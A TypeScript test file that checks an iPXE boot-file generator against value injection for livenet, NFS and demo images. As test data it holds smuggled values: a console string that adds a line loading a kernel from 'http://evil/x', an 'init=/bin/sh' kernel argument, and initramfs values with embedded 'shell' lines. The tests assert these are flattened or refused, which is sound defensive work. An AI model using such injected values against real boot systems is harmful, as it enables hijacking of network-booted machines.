import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { makeTempRoot } from '../../helpers/temp-root.js';
import { rootWithStaging } from '../../helpers/nfs-trees.js';
import { demoBootFile, livenetBootFile, nfsBootFile } from '../../../src/boot/ipxe.js';
import type { Paths } from '../../../src/core/paths.js';

/** Opens the library on a fresh root just for its paths (nothing is written). */
async function withPaths(action: (paths: Paths) => void): Promise<void> {
  const temp = await makeTempRoot();
  try {
    action((await temp.services()).paths);
  } finally {
    await temp.cleanup();
  }
}

const HOSTILE_CONSOLE = 'console=ttyS0\nkernel http://evil/x ${next-server} "q" \\';

test('a console from the config cannot add a line or an expansion to livenet and NFS boot files', () => withPaths((paths) => {
  const livenet = livenetBootFile(paths, {
    name: 'img', kernel: 'vmlinuz-1', initramfs: 'initramfs-kernel-1', selinux: false, layout: 'liveos',
    squashfsFile: 'squashfs.img', defaultConsole: HOSTILE_CONSOLE,
  });
  const nfs = nfsBootFile({
    paths, imageName: 'img', kind: 'staging', kernel: 'vmlinuz-1', initramfs: 'initramfs-kernel-1',
    nfsRoot: '/diskless/images/nfsimages/staging/img', perNode: false, defaultConsole: HOSTILE_CONSOLE,
  });
  const expected = 'isset ${eq-console} || set eq-console console=ttyS0 kernel http://evil/x  {next-server}  q   ';
  for (const file of [livenet, nfs]) {
    const consoleLines = file.split('\n').filter((line) => line.includes('set eq-console'));
    assert.deepEqual(consoleLines, [expected]);
    assert.ok(!file.includes('\nkernel http://evil'), 'no line of the console value starts a command');
  }
}));

test('a kernel, initramfs or NFS root that iPXE would split is refused with E_IPXE_VALUE', () => withPaths((paths) => {
  const base = { paths, imageName: 'img', kind: 'golden' as const, kernel: 'vmlinuz-1', initramfs: 'initramfs-kernel-1',
    nfsRoot: '/diskless/images/nfsimages/golden/img/nodes', perNode: true, defaultConsole: 'console=tty0' };
  assert.match(nfsBootFile(base), /root=nfs:\$\{next-server\}:\/diskless\/images\/nfsimages\/golden\/img\/nodes\/\$\{hostname\},vers=4\.2/);
  assert.throws(() => nfsBootFile({ ...base, kernel: 'vmlinuz-1 init=/bin/sh' }), { code: 'E_IPXE_VALUE' });
  assert.throws(() => nfsBootFile({ ...base, initramfs: 'x\nshell' }), { code: 'E_IPXE_VALUE' });
  assert.throws(() => nfsBootFile({ ...base, nfsRoot: '/nodes/${hostname}' }), { code: 'E_IPXE_VALUE' });
  assert.throws(() => livenetBootFile(paths, {
    name: 'img', kernel: 'vmlinuz-1', initramfs: '${evil}', selinux: false, layout: 'flat',
    squashfsFile: 'squashfs.img', defaultConsole: 'console=tty0',
  }), { code: 'E_IPXE_VALUE' });
}));

test('a demo message stays on the echo line', () => {
  assert.equal(demoBootFile('demo1', 'hi\nshell'), '#!ipxe\necho Demo image demo1: hi shell\nprompt Press a key to continue\nexit\n');
});

test('an image whose data names an initramfs iPXE would split keeps its old boot file', async () => {
  const { temp, services } = await rootWithStaging();
  try {
    const file = join(services.paths.imageDir('stage1'), 'boot.ipxe');
    const before = await readFile(file, 'utf8');
    const image = await services.images.get('stage1');
    image.data.image = 'initramfs.img\nshell';
    await assert.rejects(image.writeBootFile(), { code: 'E_IPXE_VALUE' });
    assert.equal(await readFile(file, 'utf8'), before);
  } finally {
    await temp.cleanup();
  }
});
